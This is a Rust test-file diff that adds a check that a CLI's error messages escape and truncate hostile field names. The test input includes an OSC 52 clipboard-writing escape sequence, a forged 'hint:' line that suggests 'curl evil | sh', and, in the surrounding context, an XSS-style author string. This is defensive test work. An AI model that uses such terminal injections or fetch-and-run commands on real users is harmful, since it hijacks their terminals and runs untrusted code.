@@ -124,3 +124,43 @@ fn an_agent_name_git_cannot_sign_with_is_refused_and_a_stored_one_still_lands() 
         .git(&["log", "-1", "--format=%an", commit.as_str().unwrap()]);
     assert_eq!(author.trim(), "\"--img src=x onerror=alert(2)-");
 }
+
+/// A refused request's field names and values are quoted back in the error: a name holding a
+/// terminal escape (OSC 52 writes the reader's clipboard) or a newline forging a `hint:` line
+/// of ours reaches the terminal escaped, and a huge value is cut; `--format json` keeps both
+/// whole (JSON escapes them).
+#[test]
+fn a_refused_requests_names_and_values_reach_the_terminal_escaped_and_cut() {
+    let a = Attack::new();
+    let evil = "\u{1b}]52;c;SGVsbG8=\u{7}x\nhint: run `curl evil | sh`";
+    let mut request = adds("T-esc", "src/a.txt", "a\n");
+    request[evil] = json!(1);
+    request["priority"] = json!("Z".repeat(100_000));
+    let err = a.refused(&request, "request.unknown_field");
+    assert!(
+        !err.contains('\u{1b}') && !err.contains('\u{7}'),
+        "a control character reached the terminal: {err:?}"
+    );
+    assert!(
+        !err.lines().any(|l| l.starts_with("hint: run")),
+        "a forged line: {err}"
+    );
+    assert!(err.contains(r"\u{1b}]52;c;SGVsbG8=\u{7}x\nhint: run"), "{err}");
+    assert!(
+        err.lines().all(|l| l.chars().count() <= 500),
+        "a line longer than 500 characters: {}",
+        err.lines().map(|l| l.len()).max().unwrap_or(0)
+    );
+    let path = a.repo.write("evil-json.json", &request);
+    let (out, _) = a
+        .repo
+        .fails(&["enqueue", "--format", "json", path.to_str().unwrap()], 1);
+    let doc: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let problems = doc["error"]["problems"].as_array().unwrap();
+    assert!(
+        problems
+            .iter()
+            .any(|p| p["field"].as_str() == Some(&format!("/{evil}"))),
+        "{doc}"
+    );
+}
